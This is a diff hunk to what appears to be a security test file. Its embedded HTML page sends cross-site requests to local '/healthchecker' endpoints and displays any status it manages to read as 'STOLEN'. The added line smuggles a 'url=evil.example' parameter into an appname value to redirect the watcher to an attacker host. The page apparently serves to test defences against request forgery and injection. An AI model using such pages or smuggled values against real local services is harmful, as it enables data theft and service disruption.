@@ -43,6 +43,7 @@ PAGE = """<!DOCTYPE html>
     await ask("/healthchecker/stop?appname=get", {{ mode: "no-cors" }});
     await ask("/healthchecker/stop", {{ method: "POST", headers: told, body: '{{"appname":"json"}}' }});
     await ask("/healthchecker/stop", {{ ...simple("hidden"), referrerPolicy: "no-referrer" }});
+    await ask("/healthchecker/watch", {{ ...simple("thief&url=evil.example") }});
     const read = await ask("/healthchecker/status").then((answer) => answer && answer.text());
     document.body.append(read ? "STOLEN " + read : "nothing to see");
     setTimeout(() => {{ document.title = "done"; }}, 500);
